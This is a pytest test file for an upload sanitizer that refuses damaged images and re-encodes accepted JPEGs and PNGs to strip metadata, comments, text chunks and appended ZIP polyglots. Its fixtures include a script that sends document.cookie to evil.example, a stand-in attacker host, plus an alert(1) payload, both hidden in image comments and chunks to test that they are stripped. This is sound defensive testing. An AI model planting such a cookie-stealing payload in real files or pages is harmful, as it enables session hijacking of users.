"""Pictures from a drive or a phone: damaged ones refused, and what is stored is
never the resident's bytes but the picture decoded and encoded again (no EXIF,
comments, text chunks, colour profile or trailing data; EXIF rotation applied)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

from file_checks import (
    AcceptedFile,
    FileKind,
    Reason,
    RejectedFile,
    RejectedFileError,
    check_upload,
    read_accepted,
    scan_drive,
    stored_copy,
)


def jpeg(size: tuple[int, int] = (320, 200), **save: object) -> bytes:
    buf = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(buf, "JPEG", quality=80, **save)
    return buf.getvalue()


def png(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    buf = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(buf, "PNG", **save)
    return buf.getvalue()


def zip_file() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
    return buf.getvalue()


def with_comment(data: bytes, text: bytes) -> bytes:
    """A JPEG COM segment right after SOI."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


HTML = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"


def test_half_a_jpeg_with_an_end_marker_appended_is_refused() -> None:
    good = jpeg()
    half = good[: len(good) // 2] + b"\xff\xd9"
    assert Image.open(io.BytesIO(half)).load() is not None  # Pillow alone says "fine"
    verdict = check_upload("photo.jpg", half)
    print(
        "half jpeg + FFD9:", getattr(verdict, "reason", "accepted"), getattr(verdict, "detail", "")
    )
    assert isinstance(verdict, RejectedFile) and verdict.reason is Reason.DAMAGED


def test_a_png_cut_short_with_iend_appended_is_refused() -> None:
    good = png((256, 256))
    cut = good[: len(good) // 2] + png_chunk(b"IEND", b"")
    verdict = check_upload("scan.png", cut)
    assert isinstance(verdict, RejectedFile) and verdict.reason is Reason.DAMAGED


def test_a_png_with_a_zip_appended_is_stored_without_it() -> None:
    polyglot = png() + zip_file()
    verdict = check_upload("scan.png", polyglot)
    assert isinstance(verdict, AcceptedFile)
    stored = stored_copy(polyglot, verdict.display_name)
    print(f"png+zip {len(polyglot)} bytes stored as {len(stored)} bytes")
    assert b"PK\x03\x04" not in stored and b"<script>" not in stored
    assert stored.endswith(png_chunk(b"IEND", b""))
    original = Image.open(io.BytesIO(polyglot)).convert("RGB")
    assert Image.open(io.BytesIO(stored)).convert("RGB").tobytes() == original.tobytes()


def test_png_text_chunks_and_colour_profile_are_not_stored() -> None:
    from PIL import ImageCms, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = png(pnginfo=info, icc_profile=icc)
    assert b"<script>" in data and b"iCCP" in data
    stored = stored_copy(data, "scan.png")
    assert b"<script>" not in stored and b"iCCP" not in stored and b"tEXt" not in stored


def test_jpeg_comments_exif_and_trailing_bytes_are_not_stored() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° to show upright (a phone held upright)
    exif[0x010F] = "PhoneMaker"
    data = with_comment(jpeg((320, 200), exif=exif.tobytes()), HTML) + zip_file()
    verdict = check_upload("IMG_0001.JPG", data)
    assert isinstance(verdict, AcceptedFile)
    stored = stored_copy(data, verdict.display_name)
    assert b"<script>" not in stored and b"PhoneMaker" not in stored and b"PK\x03\x04" not in stored
    assert b"\xff\xfe" not in stored[:64], "no COM segment"
    assert b"Exif" not in stored
    shown = Image.open(io.BytesIO(stored))
    print("stored:", shown.format, shown.size, len(stored), "bytes")
    assert shown.format == "JPEG" and shown.size == (200, 320), "the rotation is applied"
    assert stored.endswith(b"\xff\xd9")


def test_a_drive_file_is_read_back_encoded_again(tmp_path: Path) -> None:
    root = tmp_path / "usb"
    root.mkdir()
    (root / "scan.png").write_bytes(png() + zip_file())
    report = scan_drive(root)
    [accepted] = report.accepted
    assert accepted.kind is FileKind.PNG
    stored = read_accepted(root, accepted)
    assert b"PK\x03\x04" not in stored and stored.startswith(b"\x89PNG")


def test_stored_copy_refuses_what_no_longer_passes() -> None:
    with pytest.raises(RejectedFileError) as refused:
        stored_copy(b"MZ\x90\x00", "x.jpg")
    assert refused.value.rejected.reason is Reason.NOT_ALLOWED_TYPE


def test_a_pdf_is_stored_as_checked() -> None:
    from tests.security.pdf_samples import simple_pdf

    data = simple_pdf(1)
    assert stored_copy(data, "a.pdf") == data
